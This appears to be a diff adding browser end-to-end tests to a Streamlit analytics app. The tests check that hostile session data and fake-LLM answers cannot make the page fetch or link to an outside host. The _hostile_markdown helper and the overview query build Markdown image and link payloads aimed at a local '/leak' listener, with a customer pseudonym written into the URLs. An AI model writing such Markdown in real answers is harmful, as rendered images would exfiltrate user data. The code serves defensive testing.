@@ -6,22 +6,28 @@ Screenshots of each page go to test-artifacts/ for a person to look at.
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pandas as pd
 import pytest
-from support import ROOT
+from support import FAKE_API_KEY, ROOT
+from support import fakellm as fk
+from support.hostile import hostile_dataset_name, hostile_records
 
 from chatkit.analytics import frame
 from chatkit.domain import sample
+from chatkit.domain.models import ChatKitSession
 from chatkit.settings import Settings
 from chatkit.store import Store, datasets
 
@@ -63,7 +69,8 @@ class Server:
         self.url = f"http://127.0.0.1:{self.port}"
         self.log = log
         env = {k: v for k, v in os.environ.items() if not k.startswith(("LLM_", "CHATKIT_"))}
-        env.update(CHATKIT_DATA_DIR=str(data_dir), LLM_PROVIDER="offline", **extra_env)
+        env.update(CHATKIT_DATA_DIR=str(data_dir), LLM_PROVIDER="offline")
+        env.update(extra_env)  # may point the analyzer at a fake LLM
         self.process = subprocess.Popen(
             [
                 sys.executable,
@@ -361,3 +368,217 @@ def test_a_click_on_a_bar_narrows_the_session_table(server: Server, browser: Bro
     shot(page, "8_chart_selection")
     page.context.close()
     assert "Traceback" not in server.log.read_text()
+
+
+# ---- hostile text: nothing is fetched, nothing links ----------------------------------------------
+# A listener on 127.0.0.1 records every request; the hostile corpus (tests/support/hostile.py) points
+# at it from every field of a data set: Overview (with a share link quoting hostile values), every
+# Session page (offline report), Batch report, Import (uploading the same sessions) and Settings on an
+# offline server; then a Session report, an unstructured answer and a batch summary from the fake
+# LLM answering hostile Markdown with the customer's pseudonym inside URLs. Zero requests may reach
+# the listener, and no element's href or src may point at it.
+
+
+class Listener:
+    """An HTTP server on 127.0.0.1 that answers 204 to anything and remembers every request."""
+
+    def __init__(self) -> None:
+        requests: list[str] = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+            def _any(self) -> None:
+                requests.append(f"{self.command} {self.path}")
+                self.send_response(204)
+                self.end_headers()
+
+            do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _any
+
+        self.requests = requests
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    ARTIFACTS.mkdir(exist_ok=True)
+    running = Listener()
+    try:
+        yield running
+    finally:
+        running.stop()
+
+
+# Every URL-bearing attribute of every element, SVG (Plotly) included.
+_URLS = """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
+    .filter(a => ['href', 'src', 'srcset', 'poster', 'action', 'formaction', 'xlink:href', 'data'].includes(a.name))
+    .map(a => `${e.tagName.toLowerCase()}[${a.name}]=${a.value}`))"""
+
+
+def assert_nothing_points_at(page: Page, listener: Listener, where: str) -> None:
+    page.wait_for_timeout(300)  # an image or prefetch would have been asked for by now
+    pointing = [u for u in page.evaluate(_URLS) if f"127.0.0.1:{listener.port}" in u]
+    assert not pointing, (where, pointing)
+    assert not listener.requests, (where, listener.requests)
+
+
+def _sessions(port: int) -> list[ChatKitSession]:
+    return [ChatKitSession.model_validate(r) for r in hostile_records(port)]
+
+
+def _seed(data_dir: Path, port: int) -> str:
+    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=data_dir))
+    try:
+        return store.save_dataset(hostile_dataset_name(port), _sessions(port), ["hostile.json"])
+    finally:
+        store.close()
+
+
+def test_hostile_sessions_fetch_and_link_nothing_offline(
+    browser: Browser, listener: Listener, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    port = listener.port
+    data_dir = tmp_path_factory.mktemp("hostile-offline")
+    dataset_id = _seed(data_dir, port)
+    sessions = _sessions(port)
+    server = Server(data_dir, ARTIFACTS / "streamlit-hostile.log")
+    try:
+        server.wait_healthy()
+        page = new_page(browser)
+        image = f"![x](http://127.0.0.1:{port}/leak/notice.png)"
+        query = {"ds": dataset_id, "wf": image, "from": image + "9" * 500}
+        page.goto(f"{server.url}/overview?" + "&".join(f"{k}={v}" for k, v in query.items()))
+        expect(page.get_by_text("Parts of this link were ignored")).to_be_visible()
+        expect(page.locator(".js-plotly-plot")).to_have_count(6)
+        settle(page)
+        # Hover a point so Plotly draws a hover label with a hostile id in it.
+        plot = page.locator(".js-plotly-plot").first
+        plot.scroll_into_view_if_needed()
+        box = plot.bounding_box()
+        if box:
+            page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
+        shot(page, "hostile_1_overview")
+        assert_nothing_points_at(page, listener, "overview")
+
+        for session in sessions[1::2]:
+            page.goto(f"{server.url}/session?ds={dataset_id}&sid={session.id}")
+            expect(page.get_by_text("Root cause").first).to_be_visible()
+            settle(page)
+            assert_nothing_points_at(page, listener, session.id)
+        page.goto(f"{server.url}/session?ds={dataset_id}&sid={sessions[1].id}")
+        expect(page.get_by_text("Root cause").first).to_be_visible()
+        settle(page)
+        shot(page, "hostile_2_session_offline")
+
+        page.goto(f"{server.url}/batch_report?ds={dataset_id}")
+        page.get_by_role("button", name="Start batch").click()
+        expect(page.get_by_text(re.compile(r"^Done: \d+ sessions analyzed"))).to_be_visible()
+        settle(page)
+        shot(page, "hostile_3_batch")
+        assert_nothing_points_at(page, listener, "batch")
+
+        upload = ARTIFACTS / "hostile.json"
+        upload.write_text(json.dumps(hostile_records(port)))
+        page.goto(f"{server.url}/import_data")
+        page.locator("[data-testid='stFileUploader'] input[type='file']").set_input_files(str(upload))
+        expect(page.get_by_text("Import report")).to_be_visible()
+        settle(page)
+        shot(page, "hostile_4_import")
+        assert_nothing_points_at(page, listener, "import")
+
+        page.goto(f"{server.url}/settings")
+        expect(page.get_by_role("button", name="Test connection")).to_be_visible()
+        settle(page)
+        shot(page, "hostile_5_settings")
+        assert_nothing_points_at(page, listener, "settings")
+        page.context.close()
+        assert "Traceback" not in server.log.read_text()
+    finally:
+        server.stop()
+
+
+def _hostile_markdown(port: int, alias: str) -> str:
+    leak = f"http://127.0.0.1:{port}/leak"
+    return (
+        f"Customer {alias} was cut off. ![status]({leak}.png?c={alias}) [Sign in again]({leak}/login?c={alias})"
+        f" <{leak}/auto?c={alias}> <img src={leak}/raw.png> see {leak}/bare?c={alias}\n\n"
+        f"[ref][r] ![logo][r]\n\n[r]: {leak}/ref.png?c={alias}\n\n````\n```\n````\n![f]({leak}/fence.png)"
+    )
+
+
+def test_hostile_llm_answers_fetch_and_link_nothing(
+    browser: Browser, listener: Listener, fake_llm: fk.FakeLLM, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    port = listener.port
+    data_dir = tmp_path_factory.mktemp("hostile-llm")
+    dataset_id = _seed(data_dir, port)
+    sessions = _sessions(port)
+    target = next(s for s in sessions[1::2] if "pseudonym" in s.reason or s.customer_id)
+    env = {
+        "LLM_PROVIDER": "openai",
+        "LLM_API_KEY": FAKE_API_KEY,
+        "LLM_BASE_URL": fake_llm.base_url,
+        "LLM_MODEL": "fake/model-1",
+        "LLM_REQUESTS_PER_MINUTE": "1000",
+        "LLM_TIMEOUT_S": "5",
+    }
+    server = Server(data_dir, ARTIFACTS / "streamlit-hostile-llm.log", **env)
+    try:
+        server.wait_healthy()
+        page = new_page(browser)
+        page.goto(f"{server.url}/session?ds={dataset_id}&sid={target.id}")
+        expect(page.get_by_text("Root cause").first).to_be_visible()
+        settle(page)
+        # The model only ever saw the pseudonym; it builds URLs from it.
+        prompt = fake_llm.completions[-1].prompt_text
+        alias = re.search(r'"customer_id":\s*"(cust_[0-9a-f]{8})"', prompt).group(1)
+        hostile = _hostile_markdown(port, alias)
+        fake_llm.push(
+            fk.good_json(
+                fk.report_dict(
+                    root_cause={"category": "rate_limited", "summary": hostile, "evidence": [hostile]},
+                    impact=hostile,
+                    recovery_steps=[hostile],
+                )
+            )
+        )
+        page.get_by_role("button", name="Analyze again").click()
+        expect(page.get_by_text("was cut off").first).to_be_visible()
+        settle(page)
+        shot(page, "hostile_6_session_llm")
+        assert_nothing_points_at(page, listener, "session (LLM)")
+        shown = page.locator("[data-testid='stMain']").inner_text()
+        assert f"c={alias}" in shown, "the URL is shown, inert, with the pseudonym the model wrote"
+
+        # An unstructured answer: shown in a fence the answer cannot break out of.
+        fake_llm.push(fk.text(hostile), fk.text(hostile))
+        page.get_by_role("button", name="Analyze again").click()
+        expect(page.get_by_text("could not be read as a structured report").first).to_be_visible()
+        settle(page)
+        assert_nothing_points_at(page, listener, "session (unstructured LLM answer)")
+
+        # A batch summary the model writes in hostile Markdown.
+        page.goto(f"{server.url}/batch_report?ds={dataset_id}")
+        page.get_by_role("button", name="Start batch").click()
+        expect(page.get_by_text(re.compile(r"^Done: \d+ sessions analyzed"))).to_be_visible()
+        settle(page)
+        summarize = page.get_by_role("button", name=re.compile("^Summarize"))
+        if summarize.count():
+            fake_llm.push(fk.text(hostile))
+            summarize.click()
+            expect(page.get_by_text("was cut off").first).to_be_visible()
+            settle(page)
+        shot(page, "hostile_7_batch_llm")
+        assert_nothing_points_at(page, listener, "batch (LLM)")
+        page.context.close()
+        assert "Traceback" not in server.log.read_text()
+    finally:
+        server.stop()
